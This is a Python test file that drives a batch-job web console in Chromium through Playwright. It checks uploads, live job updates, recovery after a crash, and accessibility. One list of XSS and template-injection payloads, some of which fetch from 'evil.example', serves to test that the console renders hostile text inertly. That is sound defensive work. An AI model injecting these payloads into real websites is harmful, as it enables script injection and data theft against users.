"""The console in a real browser: Chromium, driven by Playwright."""

import csv
import json
import os
import re
import signal
import subprocess
import sys

import pytest

import processes
from agent import agent
from console.browsers import WAYS_TO_LOOK, check_looks, needs_chromium, run_apart
from doubleword_batch.jobs.store.job_store import Store
from doubleword_batch.jobs.store.row_marks import RowMarks
from doubleword_batch.local import LocalConfig, LocalServer
from doubleword_batch.local.executors.faults import Faults, Match, RequestFault
from doubleword_batch.settings import Settings
from finished_job import chat, finished_job
from processes import COMMAND
from running_console import WAIT_SECONDS, running, write_reviews

pytestmark = needs_chromium

_SHAPES = [
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    '"><svg onload=alert({n})>',
    "'><iframe src=https://evil.example/{n}></iframe>",
    "<a href=javascript:alert({n})>press</a>",
    "{{{{ 7*7 }}}} {{% raw %}} {n}",
    "</textarea><script>fetch('https://evil.example/{n}')</script>",
    "]]><!--<b>{n}</b>-->&lt;i&gt;&#60;",
    '" style="background:url(https://evil.example/{n})" onmouseover="alert(1)',
    "\u202eabc\u2066 {n} \u200b<style>*{{display:none}}</style>",
]
HOSTILE = [shape.format(n=n) for n in range(5) for shape in _SHAPES]


def seen(text):
    """As it is shown, in one line: a mark for each character that nobody sees."""
    return " ".join(re.sub("[\u202e\u2066\u200b]", "\ufffd", text).split())


def test_from_a_dropped_file_to_a_downloaded_table(console, opened, tmp_path):
    with opened(console, accept_downloads=True) as page:
        page.get_by_role("link", name="New job").first.click()
        page.wait_for_selector("#drop")
        page.wait_for_load_state()  # its script takes what is dropped
        dropped = page.evaluate_handle(
            """() => { const data = new DataTransfer();
            data.items.add(new File(["id,text\\n1,good\\n2,bad\\n3,so so\\n",
              "4,old\\n5,new\\n6,big\\n7,small\\n"], "moods.csv"));
            return data; }"""
        )
        page.dispatch_event("#drop", "drop", {"dataTransfer": dropped})
        page.wait_for_url("**/new/*")
        page.get_by_label("Prompt of each row").fill("Judge ")
        page.get_by_role("button", name="text", exact=True).click()  # puts the column in
        page.wait_for_selector("#rendered >> text=Judge so so")
        page.get_by_role("button", name="Try it on 5 rows").click()
        page.wait_for_selector("#pilots >> text=[simulated]")
        page.get_by_role("button", name="Continue with all rows").click()
        page.wait_for_selector("text=5 rows were answered before by")  # those of the pilot
        page.get_by_role("button", name="Submit 2 requests for $0").click()
        page.get_by_role("link", name="Look at the answers").click()
        with page.expect_download() as download:
            page.get_by_role("link", name="CSV").click()
        table = tmp_path / "table.csv"
        download.value.save_as(table)
    with table.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["text"] for row in rows] == ["good", "bad", "so so", "old", "new", "big", "small"]
    assert all(row["answer"].startswith("[simulated]") for row in rows)


def test_an_agents_job_appears_and_ends_in_two_tabs_without_reloading(console, opened, tmp_path):
    source = write_reviews(tmp_path, 7)
    settings = Settings.from_environment(
        {
            "DOUBLEWORD_BATCH_HOME": str(console.home),
            "DOUBLEWORD_BATCH_ROOTS": str(tmp_path),
            "DOUBLEWORD_BATCH_LOCAL_EXECUTOR": "simulate",
        }
    )

    async def work():
        async with agent(settings) as client:
            created = await client.calls(
                "create_batch_file", source=str(source), prompt="An agent asks {{ review }}"
            )
            await client.calls("create_batch", job=created["job"])
            return created["job"]

    with opened(console) as first:
        second = first.context.new_page()
        second.goto(console.base)
        for page in (first, second):
            page.evaluate("window.__same = true")
        job = run_apart(work)
        for page in (first, second):
            page.wait_for_selector(f".job:has-text('{job}') >> .s-completed")
            assert page.evaluate("window.__same")


def test_a_page_goes_on_by_itself_after_the_console_was_killed(home, reviews, opened):
    with running(home) as console:
        port = console.access.port
        manager = opened(console)
        page = manager.__enter__()
        page.goto(f"{console.base}/jobs/{reviews}")
        page.evaluate("window.__same = true")
    page.wait_for_selector("#lost:visible")
    with running(home, port=port):
        page.wait_for_selector("#lost", state="hidden")
        assert page.evaluate("window.__same")
        page.get_by_role("link", name="Answers", exact=True).click()
        page.wait_for_selector("table.answers")
        manager.__exit__(None, None, None)


def started(home, port):
    """A console as a process of its own, and the address that it shows."""
    command = [*COMMAND, "console", "--no-browser", "--json"]
    process = processes.Popen(
        [*command, "--port", str(port)],
        stdout=subprocess.PIPE,
        env=os.environ
        | {"DOUBLEWORD_BATCH_HOME": str(home), "DOUBLEWORD_BATCH_LOCAL_EXECUTOR": "simulate"},
    )
    return process, json.loads(process.stdout.readline())["address"]


@pytest.mark.skipif(sys.platform == "win32", reason="there is no SIGKILL")
def test_a_console_that_is_killed_while_a_job_runs_goes_on_on_the_page_that_was_open(
    tmp_path, chromium
):
    home, gate = tmp_path / "home", tmp_path / "gate"
    hold = RequestFault(fault="hold", until=str(gate), match=Match(contains="number 3"))
    config = LocalConfig(home=home, executor="simulate", faults=Faults(requests=(hold,)))
    page = chromium.new_page()
    page.set_default_timeout(WAIT_SECONDS * 1000)
    with LocalServer(config):
        process, address = started(home, 0)
        base, port = address.partition("/enter")[0], int(address.split(":")[2].partition("/")[0])
        try:
            page.goto(address)
            page.wait_for_url(f"{base}/")  # where the page that lets in leads by itself
            page.goto(f"{base}/new")
            page.set_input_files("#file", write_reviews(tmp_path, 4))
            page.wait_for_url("**/new/*")
            page.get_by_label("Prompt of each row").fill("Judge {{ review }}")
            page.get_by_role("button", name="Continue with all rows").click()
            page.get_by_role("button", name="Submit 4 rows for $0").click()
            page.wait_for_selector(".legend >> text=1 pending")
            page.wait_for_load_state()  # its script, too, is there
            page.evaluate("window.__same = true")
            process.kill()
            assert process.wait(WAIT_SECONDS) == -signal.SIGKILL
            page.wait_for_selector("#lost:visible")
            process.stdout.close()
            process, _ = started(home, port)
            page.wait_for_selector("#lost", state="hidden")
            gate.touch()
            page.wait_for_selector(".legend >> text=4 ok")
            assert page.evaluate("window.__same")
            page.get_by_role("link", name="Judge", exact=True).click()
            page.get_by_role("button", name="Right").first.click()
            page.wait_for_url("**place=**")
        finally:
            process.terminate()
            process.wait(WAIT_SECONDS)
            process.stdout.close()
            page.close()


def test_fifty_hostile_texts_are_text_wherever_they_stand(tmp_path, opened):
    home, folder = tmp_path / "home", tmp_path / "rows"
    folder.mkdir()
    source = folder / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", HOSTILE[1], "text"])
        writer.writerows((n, text, text) for n, text in enumerate(HOSTILE))
    schema = {"type": "object", "properties": {HOSTILE[2]: {"type": "string"}}}
    spec = {"prompt": HOSTILE[0], "system": HOSTILE[3], "response_schema": schema}
    bodies = [
        text if n % 5 == 0 else chat(json.dumps({HOSTILE[2]: text}) if n % 2 else text)
        for n, text in enumerate(HOSTILE)
    ]
    store = Store(home)
    made = run_apart(lambda: finished_job(folder, store, str(source), *bodies, spec=spec))
    store.close()
    job = f"/jobs/{made.name}"
    with running(home) as console, opened(console) as page:
        page.goto(f"{console.base}{job}/answers")
        page.wait_for_function("!document.querySelector('[data-load]:empty:not([data-quiet])')")
        shown = page.inner_text("table.answers tbody")
        for text in HOSTILE:
            assert seen(text) in " ".join(shown.split())
        assert "\u202e" not in page.content()
        for number in (1, 2, 4, 9, 10):
            page.locator(f"a[href='{job}/rows/{number}']").click()
            page.wait_for_selector("dialog[open] h2")
            assert seen(HOSTILE[number - 1]) in page.inner_text("dialog")
            page.keyboard.press("Escape")
        for path in ("", "/failures", "/judge", "/query?sql=SELECT * FROM results", "/rows/2"):
            page.goto(f"{console.base}{job}{path}")
            assert page.inner_text("h1") == made.name
        for text in (*HOSTILE[1:4], HOSTILE[9]):
            page.goto(console.base)
            page.get_by_role("searchbox").fill(text)
            page.keyboard.press("Enter")
            page.wait_for_url("**search=**")
            assert page.get_by_role("searchbox").input_value() == text
            page.goto(f"{console.base}{job}/answers")
            page.get_by_role("searchbox").fill(text)
            page.keyboard.press("Enter")
            page.wait_for_url("**text=**")
            assert page.get_by_role("searchbox").input_value() == text
        page.goto(f"{console.base}/new")
        page.set_input_files("#file", source)
        page.wait_for_url("**/new/*")
        page.get_by_label("Prompt of each row").fill(HOSTILE[6] + ' {{ row["text"] }}')
        page.wait_for_selector("#rendered article")
        assert HOSTILE[1] in page.inner_text("#rendered")
        assert page.seen.dialogs == []


def test_hostile_models_notes_labels_and_marked_rows_are_text(tmp_path, opened):
    home, folder = tmp_path / "home", tmp_path / "rows"
    folder.mkdir()
    source = write_reviews(folder, 4)
    schema = {"type": "object", "properties": {HOSTILE[4]: {"enum": HOSTILE[:6]}}}
    spec = {
        "prompt": "p",
        "response_schema": schema,
        "note": HOSTILE[1],
        "params": {"stop": HOSTILE[7]},
        "made_from": HOSTILE[8],
        "cascade": {"model": HOSTILE[2], "target": 0.95, "score": "logprobs", "added": []},
    }
    bodies = [chat(json.dumps({HOSTILE[4]: text})) for text in HOSTILE[:3]]
    store = Store(home)
    made = run_apart(
        lambda: finished_job(
            folder, store, str(source), *bodies, HOSTILE[3], spec=spec, model=HOSTILE[9]
        )
    )
    RowMarks(store, made.job.id).set(1, "wrong")
    store.close()
    job = f"/jobs/{made.name}"
    with running(home, read_only=True) as console, opened(console) as page:
        page.goto(console.base)
        shown = page.inner_text(".job")
        for text in (HOSTILE[1], HOSTILE[9]):
            assert seen(text) in " ".join(shown.split())
        page.goto(f"{console.base}{job}")
        shown = page.inner_text("main")
        for text in (HOSTILE[1], HOSTILE[2], HOSTILE[8], HOSTILE[9]):
            assert seen(text) in " ".join(shown.split())
        for path in ("/answers?mark=any", "/failures", "/judge", "/rows/1"):
            page.goto(f"{console.base}{job}{path}")
            page.wait_for_function("!document.querySelector('[data-load]:empty:not([data-quiet])')")
            assert page.inner_text("h1") == made.name
        assert HOSTILE[4] in page.inner_text("dl.answer-text dt")
        assert page.locator("main img, main iframe, main script").count() == 0
        assert page.seen.dialogs == []


def test_two_prompts_are_tried_on_the_same_rows_and_stand_side_by_side(console, opened):
    with opened(console) as page:
        page.goto(f"{console.base}/new")
        rows = "id,text\n" + "".join(f"{n},text {n}\n" for n in range(6))
        file = {"name": "a.csv", "mimeType": "text/csv", "buffer": rows.encode()}
        page.set_input_files("#file", file)
        page.wait_for_url("**/new/*")
        for words, seen in (("Name", "This prompt"), ("Count", "Previous prompt")):
            page.get_by_label("Prompt of each row").fill(words + " {{ text }}")
            page.wait_for_selector(f"#rendered >> text={words} text 0")
            page.get_by_role("button", name="Try it on 5 rows").click()
            page.wait_for_selector(f"#pilots >> text={seen}")
        page.wait_for_selector("#pilots tr:nth-child(6) td:nth-child(3) .answer-text")
        prompts = page.locator("#pilots .asked pre").all_inner_texts()
        assert prompts == ["Name {{ text }}", "Count {{ text }}"]
        heads = page.locator("#pilots tbody tr th").all_inner_texts()
        assert heads[1:] == ["1", "2", "3", "4", "5"]


def test_a_prompt_written_before_the_script_has_come_is_rendered_too(console, opened):
    with opened(console) as page:
        page.goto(f"{console.base}/new")
        rows = {"name": "a.csv", "mimeType": "text/csv", "buffer": b"id,text\n1,good\n"}
        page.set_input_files("#file", rows)
        page.wait_for_url("**/new/*")
        held = []

        def hold(route):
            held.append(route)

        page.route("**/console.js", hold)
        with page.expect_request("**/console.js"):
            page.goto(page.url, wait_until="commit")
        page.get_by_label("Prompt of each row").fill("Judge {{ text }}")
        page.wait_for_selector("#pilots", state="attached")  # the last of the page
        held[0].continue_()
        page.wait_for_selector("#rendered >> text=Judge good")


def test_judging_needs_no_mouse(console, opened, reviews):
    with opened(console) as page:
        page.goto(f"{console.base}/jobs/{reviews}/judge?place=0")
        for key, place in (("y", 1), ("j", 2), ("k", 1), ("n", 2)):
            page.keyboard.press(key)
            page.wait_for_url(f"**place={place}")
        assert "2 of 60 judged" in page.inner_text("main")
        assert "50.0 % right" in page.inner_text("main")


@pytest.mark.parametrize("way", WAYS_TO_LOOK)
def test_pages_are_accessible_and_fit_the_screen(console, opened, reviews, way):
    job = f"/jobs/{reviews}"
    paths = ["/", "/new", "/provider", "/nowhere", job]
    paths += [job + rest for rest in ("/answers", "/failures", "/judge", "/query?sql=SELECT 1")]
    with opened(console, **way) as page:
        for path in paths:
            page.goto(console.base + path)
            if path.endswith("/answers"):
                page.wait_for_selector(".values a")
            check_looks(page)
        page.goto(f"{console.base}{job}/answers")
        page.locator("a[data-drawer]").first.click()
        page.wait_for_selector("dialog[open] h2")
        check_looks(page)
